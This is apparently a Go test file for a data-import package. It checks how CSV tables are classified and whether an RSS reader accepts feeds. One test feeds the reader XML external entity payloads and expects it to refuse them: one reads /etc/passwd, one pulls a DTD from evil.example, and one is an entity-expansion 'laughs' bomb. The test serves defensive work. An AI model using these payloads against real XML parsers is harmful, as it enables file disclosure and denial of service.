package exchange_test

import (
	"fmt"
	"strings"
	"testing"

	didban "didban.app/backend"
)

// A list that may be of anything is taken for nothing.
func TestRead_KindIsNotGuessed(t *testing.T) {
	for name, header := range map[string]string{
		"codes and names":      "کد,نام",
		"of a city's columns":  "code,name,licence,asOf",
		"codes, names, counts": "کد,نام,جمعیت",
		"codes alone":          "code,x",
	} {
		t.Run(name, func(t *testing.T) {
			row := strings.Repeat(",1403", strings.Count(header, ",")) + "\n"
			batch, problems := newWorld().read(t, map[string]string{"list.csv": header + "\nA" + row + "B" + row})
			if len(batch.Nouns) > 0 {
				t.Fatalf("it became %s", batch.Nouns[0].Kind())
			}
			p := wantProblem(t, problems, didban.LevelWarning, 0, "", "table.ambiguous")
			if !strings.Contains(p.Args["sample"], "list.csv") {
				t.Errorf("the sample is %q", p.Args["sample"])
			}
			wantProblem(t, problems, didban.LevelError, 0, "", "import.nothing")
		})
	}
}

// What the columns say for certain needs no name.
func TestRead_KindIsGuessedWhereItIsCertain(t *testing.T) {
	w := newWorld()
	w.load(t, map[string]string{
		"a.csv": oneProject, "b.csv": "کد,رده,نام\nR1,منطقه,الف\n", "c.csv": "project,year,source,approved\nP-1,1403,national,5\n",
	})
	if w.project(t, "P-1").Budget[0].Approved != 5 || w.nouns[didban.KindArea]["R1"] == nil {
		t.Error("something was not taken in")
	}
}

func TestRead_OneCity(t *testing.T) {
	batch, problems := newWorld().read(t, map[string]string{"city.csv": "کد,نام\nA,الف\nB,ب\n"})
	wantProblem(t, problems, didban.LevelError, 3, "کد", "city.several")
	if len(batch.Nouns) > 0 {
		t.Error("a city was made")
	}
}

// A folder of files that mean nothing is one remark.
func TestRead_ManyUnknownFiles(t *testing.T) {
	files := map[string]string{"projects.csv": oneProject}
	for i := range 20_000 {
		files[fmt.Sprintf("x%05d.csv", i)] = "a,b\n1,2\n"
	}
	for i := range 500 {
		files[fmt.Sprintf("y%05d.csv", i)] = "projects,x\n"
	}
	batch, problems := newWorld().read(t, files)
	if len(problems) != 1 || problems[0].Key != "table.unknown" || problems[0].Args["count"] != "20500" {
		t.Errorf("%d problems: %s", len(problems), show(problems[:min(3, len(problems))]))
	}
	if len(batch.Nouns) != 1 {
		t.Errorf("%d nouns, want the project", len(batch.Nouns))
	}
}

// rssOf is a feed of items.
func rssOf(head, items string) map[string]string {
	return map[string]string{"feed.xml": `<?xml version="1.0"?>` + head + `<rss version="2.0"><channel><title>خبر</title><link>https://k.example</link>` + items + `</channel></rss>`}
}

// Entries that only the fragment of their identity tells apart are as many as they are.
func TestReadFeed_FragmentsTellEntriesApart(t *testing.T) {
	var items strings.Builder
	for i := range 9 {
		fmt.Fprintf(&items, `<item><title>خبر %d</title><guid>https://k.example/news#n%d</guid><pubDate>Sat, 12 Aug 2023 06:30:00 +0000</pubDate><description>متن</description></item>`, i, i)
	}
	batch, problems := newWorld().read(t, rssOf("", items.String()))
	if batch.New[didban.KindArticle] != 9 {
		t.Errorf("%d articles, want 9: %s", batch.New[didban.KindArticle], show(problems))
	}
}

// An entity that the reader does not follow is no text: the feed is refused.
func TestReadFeed_StrangeEntity(t *testing.T) {
	item := func(title string) string {
		return `<item><title>` + title + `</title><guid>g</guid><pubDate>Sat, 12 Aug 2023 06:30:00 +0000</pubDate><description>متن</description></item>`
	}
	laughs := `<!DOCTYPE rss [<!ENTITY a "ها"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>`
	for name, files := range map[string]map[string]string{
		"of a file":     rssOf(`<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, item("&x;")),
		"of an address": rssOf(`<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>`, item("پل")),
		"laughs":        rssOf(laughs, item("&b;")),
		"undeclared":    rssOf("", item("&x;")),
		"in a text":     rssOf("", item("پل")+`<item><description>&no-such;</description></item>`),
	} {
		t.Run(name, func(t *testing.T) {
			batch, problems := newWorld().read(t, files)
			wantProblem(t, problems, didban.LevelError, 1, "", "feed.entity")
			if len(batch.Nouns) > 0 {
				t.Errorf("taken in: %s", encode(t, batch.Nouns[0]))
			}
		})
	}
	for name, title := range map[string]string{
		"of XML": "الف &amp; ب", "of HTML": "الف&nbsp;ب &raquo;", "a number": "&#1662;ل", "text": "<![CDATA[R&x;D]]>", "remark": "پل<!-- &x; -->",
	} {
		t.Run(name, func(t *testing.T) {
			batch, problems := newWorld().read(t, rssOf("", item(title)))
			if len(batch.Nouns) != 1 {
				t.Errorf("not taken in: %s", show(problems))
			}
		})
	}
}
